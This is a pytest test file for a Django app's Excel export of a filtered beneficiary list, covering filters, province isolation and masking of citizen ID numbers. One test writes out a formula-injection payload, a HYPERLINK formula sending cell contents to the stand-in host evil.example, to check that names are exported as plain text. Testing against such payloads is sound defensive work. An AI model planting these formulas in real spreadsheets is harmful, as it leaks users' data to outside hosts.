"""Excel export of the list as filtered on screen."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from beneficiaries.models import LegalForm, Sector
from reference.models import Province
from tests.beneficiaries.factories import BeneficiaryFactory, commune_of
from tests.beneficiaries.test_selectors import listed


def _sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "attachment" in response["Content-Disposition"]
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.django_db
@pytest.mark.parametrize(
    "params,sector_code",
    [
        ({}, None),
        ({"q": "det tho cam"}, None),
        ({"legal_form": "household_business"}, None),
        ({"q": "che"}, "nong-lam-thuy-san"),
    ],
)
def test_export_holds_the_rows_of_the_filtered_list(
    client, users, params, sector_code, demo_beneficiaries
):
    BeneficiaryFactory(name="Hợp tác xã Dệt thổ cẩm Chiềng Cơi", commune=commune_of(14))
    if sector_code:
        params = {**params, "sector": Sector.objects.get(code=sector_code).pk}
    user = users["sct-sonla"]
    client.force_login(user)
    sheet = _sheet(client.get(reverse("beneficiary-export"), params))
    rows = list(sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert header[:4] == ("STT", "Tên cơ sở", "Loại hình", "Mã số thuế")
    assert sheet["B1"].font.bold
    assert sheet.column_dimensions["B"].width >= 30

    expected = list(listed(user, **params))
    assert len(expected) > 0
    assert [r[1] for r in body] == [b.name for b in expected]
    assert [r[0] for r in body] == list(range(1, len(expected) + 1))
    assert [r[3] or None for r in body] == [b.tax_code for b in expected]


@pytest.mark.django_db
def test_the_list_links_to_the_export_with_its_filters(client, users):
    client.force_login(users["sct-sonla"])
    body = client.get(
        reverse("beneficiary-list"), {"q": "chè", "legal_form": "cooperative", "page": "2"}
    ).content.decode()
    assert f'{reverse("beneficiary-export")}?q=ch%C3%A8&amp;legal_form=cooperative"' in body


@pytest.mark.django_db
def test_export_never_includes_another_province(client, users):
    client.force_login(users["sct-hanoi"])
    sonla = Province.objects.get(code=14)
    sheet = _sheet(client.get(reverse("beneficiary-export"), {"province": sonla.pk}))
    provinces = {row[7] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert provinces <= {"Thành phố Hà Nội"}


@pytest.mark.django_db
def test_export_masks_the_cccd_for_readers(client, users):
    BeneficiaryFactory(
        name="Hộ kinh doanh Nguyễn Thị Mai",
        legal_form=LegalForm.HOUSEHOLD_BUSINESS,
        tax_code=None,
        citizen_id="001190055555",
        commune=commune_of(1),
    )
    params = {"q": "Nguyen Thi Mai"}
    client.force_login(users["sct-hanoi"])
    rows = list(
        _sheet(client.get(reverse("beneficiary-export"), params)).iter_rows(values_only=True)
    )
    assert any(r[4] == "001190055555" for r in rows)
    client.force_login(users["inspector-hanoi"])
    rows = list(
        _sheet(client.get(reverse("beneficiary-export"), params)).iter_rows(values_only=True)
    )
    assert not any(r[4] == "001190055555" for r in rows)
    assert any(r[4] == "001******555" for r in rows)


@pytest.mark.django_db
def test_a_formula_like_name_is_exported_as_plain_text(client, users):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")'
    BeneficiaryFactory(name=hostile, commune=commune_of(14), address="+84 Bản Mòng")
    client.force_login(users["sct-sonla"])
    sheet = _sheet(client.get(reverse("beneficiary-export"), {"q": "evil"}))
    name, address = sheet["B2"], sheet["I2"]
    assert (name.value, name.data_type) == (hostile, "s")
    assert (address.value, address.data_type) == ("+84 Bản Mòng", "s")
    assert name.quotePrefix and address.quotePrefix
